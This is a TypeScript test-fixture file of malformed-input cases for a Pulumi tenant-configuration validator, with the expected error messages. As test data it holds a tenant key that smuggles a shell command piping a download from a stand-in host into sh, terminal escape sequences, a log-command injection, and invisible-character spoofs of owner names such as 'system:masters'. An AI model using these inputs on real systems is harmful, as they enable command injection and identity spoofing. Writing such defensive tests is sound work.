import type { BadInput } from "./case.ts";

const nameBound =
  "must be 1 to 100 printable characters without blanks at the ends. Write the customer's name; invisible characters are refused, because two names could then look the same.";

/** See bad-input.test.ts. Characters that act on a terminal, a log or a reader instead of being read. */
export const charactersCases: readonly BadInput[] = [
  {
    name: "an id that would be a line of its own in a log",
    tenants: `
- { id: "a\\n::stop-commands::pwn\\n\\e[31m", name: Acme, tier: pro }`,
    expected: [
      `Pulumi.dev.yaml:3:13 tenant a\\u{a}::stop-commands::pwn\\u{a}\\u{1b}[31m id: "a\\n::stop-commands::pwn\\n\\u001b[31m"; must match [a-z][a-z0-9-]{1,29} and not end in a dash. Use 2 to 30 lower-case letters, digits and dashes, beginning with a letter. [malformed]`,
    ],
  },
  {
    name: "names with characters that nobody sees",
    tenants: `
- { id: acme, name: "Ac\\u200Bme", tier: pro }
- { id: globex, name: "Glo\\0bex", tier: pro }
- { id: initech, name: "Ini\\u202Etech", tier: pro }`,
    expected: [
      `Pulumi.dev.yaml:3:25 tenant acme name: "Ac\\u{200b}me"; ${nameBound} [malformed]`,
      `Pulumi.dev.yaml:4:27 tenant globex name: "Glo\\u0000bex"; ${nameBound} [malformed]`,
      `Pulumi.dev.yaml:5:28 tenant initech name: "Ini\\u{202e}tech"; ${nameBound} [malformed]`,
    ],
  },
  {
    name: "names of characters that are blank",
    tenants: `
- { id: acme, name: "\u3164", tier: pro }
- { id: globex, name: "\u2800\u2800", tier: pro }
- { id: initech, name: "Ini\uFFA0tech", tier: pro }
- { id: hooli, name: "Hooli\uFE0F", tier: pro }`,
    expected: [
      `Pulumi.dev.yaml:3:25 tenant acme name: "\\u{3164}"; ${nameBound} [malformed]`,
      `Pulumi.dev.yaml:4:27 tenant globex name: "\\u{2800}\\u{2800}"; ${nameBound} [malformed]`,
      `Pulumi.dev.yaml:5:28 tenant initech name: "Ini\\u{ffa0}tech"; ${nameBound} [malformed]`,
      `Pulumi.dev.yaml:6:26 tenant hooli name: "Hooli\\u{fe0f}"; ${nameBound} [malformed]`,
    ],
  },
  {
    name: "a NUL in a file",
    tenants: `
- { id: acme, name: "Ac\0me", tier: pro }`,
    expected: [
      `Pulumi.dev.yaml:3:28 environment: not valid YAML; a control character (U+0000) cannot stand in a file. Remove it, and save the file as UTF-8; nothing else in this file was checked. [yaml-syntax]`,
    ],
  },
  {
    name: "an owner behind a character that nobody sees",
    tenants: `
- { id: acme, name: Acme, tier: pro, owners: [{ user: "\\u200Bsystem:masters" }, { group: "\\e[2Jadmins" }] }`,
    expected: [
      `Pulumi.dev.yaml:3:59 tenant acme owners[0].user: "\\u{200b}system:masters"; must be a user name. Write the user as the identity provider names it. [malformed]`,
      `Pulumi.dev.yaml:3:94 tenant acme owners[1].group: "\\u001b[2Jadmins"; must be a group name. Write the group as the identity provider names it. [malformed]`,
    ],
  },
  {
    name: "owners of which nothing is seen",
    tenants: `
- { id: acme, name: Acme, tier: pro, owners: [{ user: "\\u3164" }, { group: "\\u2800admins" }] }`,
    expected: [
      `Pulumi.dev.yaml:3:59 tenant acme owners[0].user: "\\u{3164}"; must be a user name. Write the user as the identity provider names it. [malformed]`,
      `Pulumi.dev.yaml:3:80 tenant acme owners[1].group: "\\u{2800}admins"; must be a group name. Write the group as the identity provider names it. [malformed]`,
    ],
  },
  {
    name: "a secret whose tenant would be a command in a shell",
    config: `
tenantry:tenantSecrets:
  "acme'; curl evil|sh; '":
    MODEL_TOKEN: hunter2-very-secret`,
    expected: [
      `Pulumi.dev.yaml:15:7 environment tenantry:tenantSecrets.<id>.MODEL_TOKEN: a value that is not encrypted; must be encrypted by Pulumi. Change the secret where it comes from, for it has been exposed; then run: pulumi config set --secret --path 'tenantry:tenantSecrets.<id>.MODEL_TOKEN' [secret-in-the-clear]`,
      `Pulumi.dev.yaml:15:7 environment tenantry:tenantSecrets.<id>.MODEL_TOKEN: a secret of a tenant whose key is not shown; no tenant of this environment has this id. Remove it with pulumi config rm --path, or add the tenant. [secret-tenant]`,
    ],
  },
];
